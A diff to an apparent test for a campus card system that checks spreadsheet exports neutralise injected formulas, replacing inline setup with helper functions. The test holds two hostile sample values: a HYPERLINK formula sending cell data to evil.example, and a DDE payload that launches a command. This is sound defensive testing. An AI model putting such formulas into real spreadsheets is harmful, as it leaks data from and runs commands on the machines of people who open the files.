@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from campuscard.config import Settings
 from tests.support import login
-from tests.support_issuing import make_campus, make_parent
+from tests.support_issuing import apply_at_counter, make_counter_campus
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 EVIL_CLASS = "=cmd|' /C calc'!A0"
@@ -24,27 +24,8 @@ async def test_print_data_exports_neutralise_formulas(
     # given: a counter application in the production queue, then the student's name and class
     # edited into formulas
     async with pool.acquire() as conn:
-        campus = await make_campus(conn)
-        await make_parent(conn, campus, "parent1", "13900000001", guardian_of="2026000001")
-        await conn.execute(
-            "INSERT INTO user_roles(user_id, role, school_id) SELECT id, 'card_center', $1 "
-            "FROM users WHERE username = 'teacher-iss'",
-            campus.school_id,
-        )
-    parent = await login(client, "parent1", None)
-    r = await client.post(
-        "/api/v1/card-applications",
-        headers=parent,
-        json={
-            "client_id": "apply-formula-1",
-            "province": "32",
-            "school": campus.code,
-            "class_name": "一年级2班",
-            "name": "学生1",
-            "number": "2026000001",
-            "delivery": "counter",
-        },
-    )
+        campus = await make_counter_campus(conn)
+    r = await apply_at_counter(client, campus, "apply-formula-1")
     assert r.status_code == 201, r.text
     async with pool.acquire() as conn:
         await conn.execute("UPDATE persons SET name = $1 WHERE number = '2026000001'", EVIL_NAME)
